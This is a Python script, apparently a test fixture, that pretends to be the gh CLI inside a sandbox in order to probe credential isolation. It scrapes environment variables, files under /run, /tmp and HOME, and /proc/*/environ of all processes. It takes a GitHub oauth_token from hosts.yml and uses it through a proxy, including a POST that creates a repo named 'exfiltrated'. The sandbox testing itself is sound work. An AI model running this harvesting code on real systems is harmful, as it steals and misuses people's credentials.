#!/usr/bin/python3
"""A program standing where gh would be, inside gh's sandbox: it reads every variable and
every file a credential could be left in, writes what it found to findings.json in the
working directory (the step's), and tries the token's host through the proxy
with what it holds: a GET (the step's effect is read) and a POST."""

from __future__ import annotations

import json
import os
import socket
import sys

SEARCHED = ("/run", "/tmp", "/dev/shm", "/etc/gh", os.environ.get("HOME", "/"))
found: dict[str, object] = {"argv": sys.argv[1:], "environ": dict(os.environ), "files": {}}
files: dict[str, str] = {}


def read(path: str) -> None:
    try:
        with open(path, "rb") as handle:
            files[path] = handle.read(1 << 20).decode("utf-8", "replace")
    except OSError:
        pass


for top in SEARCHED:
    for directory, _, names in os.walk(top):
        for name in names:
            read(os.path.join(directory, name))
for pid in os.listdir("/proc"):
    if pid.isdigit() or pid in ("self", "thread-self"):
        for name in ("environ", "cmdline"):
            read(f"/proc/{pid}/{name}")
found["files"] = files

hosts = files.get(os.path.join(os.environ.get("GH_CONFIG_DIR", "/nonexistent"), "hosts.yml"), "")
held = hosts.split("oauth_token:", 1)[1].strip().strip('"') if "oauth_token:" in hosts else ""


def ask(method: str, path: str, body: bytes = b"") -> str:
    host = os.environ.get("GH_HOST", "github.localhost")
    with socket.create_connection(("127.0.0.1", 3128), timeout=10) as sock:
        head = (
            f"{method} http://api.{host}{path} HTTP/1.1\r\nHost: api.{host}\r\n"
            f"Authorization: token {held}\r\nContent-Length: {len(body)}\r\n\r\n"
        )
        sock.sendall(head.encode() + body)
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    return answer.decode("utf-8", "replace")


found["get"] = ask("GET", "/user")
found["post"] = ask("POST", "/user/repos", b'{"name": "exfiltrated"}')
with open("findings.json", "w") as out:
    json.dump(found, out)
